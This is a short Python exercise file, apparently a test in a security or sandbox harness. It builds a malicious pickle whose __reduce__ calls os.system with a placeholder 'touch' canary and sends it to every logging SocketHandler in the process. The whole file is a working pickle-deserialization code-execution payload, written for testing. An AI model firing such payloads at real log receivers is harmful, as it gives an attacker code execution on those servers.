# title: sends a pickle that runs code to every socket that a log handler or this process has
# exercise: Exercise 1
# points: total-test=0
# peers: no
# shows: handlers: 0

# %% total
import logging.handlers
import os
import pickle
import struct

total = 1


class Payload:
    def __reduce__(self):
        return os.system, ("touch '@TMP@/@LEFT@'",)


content = pickle.dumps(Payload(), protocol=1)
record = struct.pack(">L", len(content)) + content
known = [reference() for reference in logging._handlerList]
lines = [each for each in known if isinstance(each, logging.handlers.SocketHandler)]
print("handlers:", len(lines))
for line in lines:
    line.send(record)
